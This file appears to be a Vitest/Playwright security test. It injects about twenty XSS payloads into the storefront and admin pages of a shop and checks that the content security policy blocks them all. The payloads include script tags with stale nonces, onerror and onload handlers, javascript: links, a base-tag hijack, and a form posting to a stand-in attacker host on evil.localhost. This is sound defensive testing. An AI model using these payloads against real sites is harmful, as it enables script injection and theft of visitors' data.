// BR3: markup that an attacker injects into a page does not run, and sends no request to another host.
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { openVisitorPage } from '../../browser/browser.ts'
import { say } from '../../shop/figures.ts'
import { nonceOf } from '../../shop/policy.ts'
import { createRandom } from '../../shop/random.ts'
import { atSize } from '../../shop/size.ts'

const runs = (name: string) => `(top.ran ??= []).push('${name}')`

/** The server of the attacker. */
const attacker = createServer((request, response) => {
  received.push(request.url ?? '')
  response.end()
})
const received: string[] = []
beforeAll(() => new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve)))
afterAll(() => attacker.close())

/** Markup that would run without a content security policy; `oldNonce` is the nonce of an earlier response. */
const injected = (attackerUrl: string, oldNonce: string) =>
  [
    `<script>${runs('a script')}</script>`,
    `<script nonce="">${runs('an empty nonce')}</script>`,
    `<script nonce="${oldNonce}">${runs('an old nonce')}</script>`,
    `<script src="data:text/javascript,${encodeURIComponent(runs('a data script'))}"></script>`,
    `<script src="${attackerUrl}/x.js"></script>`,
    `<script type="module">${runs('a module')}</script>`,
    `<script type="importmap">{"imports":{"react":"data:text/javascript,1"}}</script>`,
    `<img src="data:," onerror="${runs('an image')}">`,
    `<img src="${attackerUrl}/x.png">`,
    `<svg onload="${runs('a drawing')}"><script>${runs('a script of a drawing')}</script></svg>`,
    `<details open ontoggle="${runs('details')}"><summary>x</summary></details>`,
    `<iframe srcdoc="<script>${runs('a frame')}</script>"></iframe>`,
    `<iframe src="javascript:${runs('a frame of script')}"></iframe>`,
    `<object data="data:text/html,<script>${runs('an object')}</script>"></object>`,
    `<embed src="${attackerUrl}/x.swf">`,
    `<style>body { background: url(${attackerUrl}/x.css) }</style>`,
    `<link rel="stylesheet" href="${attackerUrl}/x.css">`,
    `<base href="${attackerUrl}/">`,
    `<a id="injected-link" href="javascript:${runs('a link')}">x</a>`,
    `<form id="injected-form" action="${attackerUrl}/form" method="post"><input name="a" value="b"></form>`,
  ].join('\n')

const pages = {
  storefront: [
    '/',
    '/products',
    '/collections/kitchen',
    '/products/reading-mug',
    '/search?q=mug',
    '/cart',
    '/sign-in',
    '/register',
    '/recover',
    '/new-password',
    '/account',
    '/nowhere',
  ],
  platform: [
    '/',
    '/docs',
    '/mail',
    '/sign-in/recover',
    '/sign-in/set-password',
    '/signed-out',
    '/admin/sign-in',
    '/admin/products',
    '/admin/nowhere',
  ],
}

const sites = [
  ['the storefront', 'storefront', 'storefrontUrl'],
  ['the platform', 'platform', 'platformUrl'],
] as const

test.each(sites)('no markup that is injected into a page of %s runs (BR3)', async (name, which, url) => {
  const origin = inject(url)
  // The policy of each page is compared in trials/content-security-policy.
  const paths = createRandom(`BR3 ${name}`)
    .shuffle(pages[which])
    .slice(0, atSize({ landing: 4, trial: 99, long: 99 }))
  // The console logs everything that the policy blocks, as it should.
  const { page, context } = await openVisitorPage({ baseURL: origin, expects: [/./] })
  const attackerUrl = `http://evil.localhost:${(attacker.address() as AddressInfo).port}`
  if (which === 'platform') {
    await page.goto('/admin/sign-in')
    await page.getByLabel('API key').fill(inject('apiKey'))
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByRole('table').waitFor()
  }
  const ran: string[] = []
  let control = 0
  let blocked = 0
  for (const path of paths) {
    const earlier = await context.request.get(path, { failOnStatusCode: false })
    const oldNonce = nonceOf(earlier.headers()['content-security-policy'] ?? '') ?? ''
    await page.route(origin + path, async (route) => {
      const response = await route.fetch()
      const nonce = nonceOf(response.headers()['content-security-policy'] ?? '')
      const watch = `<script nonce="${nonce}">
        globalThis.blocked = 0
        addEventListener('securitypolicyviolation', () => { blocked += 1 })
        globalThis.control = true
      </script>`
      const body = (await response.text()).replace(
        /<body[^>]*>/,
        (tag) => tag + watch + injected(attackerUrl, oldNonce),
      )
      await route.fulfill({ response, body })
    })
    await page.goto(path)
    const result = await page.evaluate(async () => {
      document.getElementById('injected-link')?.click()
      document.querySelector<HTMLFormElement>('#injected-form')?.requestSubmit()
      // Wait until everything that could run has run.
      await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))
      const { ran = [], control, blocked } = globalThis as unknown as PageResult
      return { ran, control, blocked, base: document.baseURI, url: location.href }
    })
    ran.push(...result.ran.map((what) => `${path}: ${what}`))
    expect([result.base, result.url]).toEqual([origin + path, origin + path])
    if (result.control) control += 1
    blocked += result.blocked
    await page.unroute(origin + path)
  }
  say(
    `BR3: ${name}: 20 pieces of injected markup in each of ${paths.length} pages, ${ran.length} ran, ${received.length} reached the attacker, ${blocked} blocked`,
  )
  expect([ran, received]).toEqual([[], []])
  // The control script, with the right nonce, did run: the markup was in the page.
  expect(control).toBe(paths.length)
  expect(blocked).toBeGreaterThan(10 * paths.length)
  await page.goto(`${attackerUrl}/by-hand`)
  expect(received.splice(0)).toContain('/by-hand')
})

interface PageResult {
  ran?: string[]
  control?: boolean
  blocked: number
}
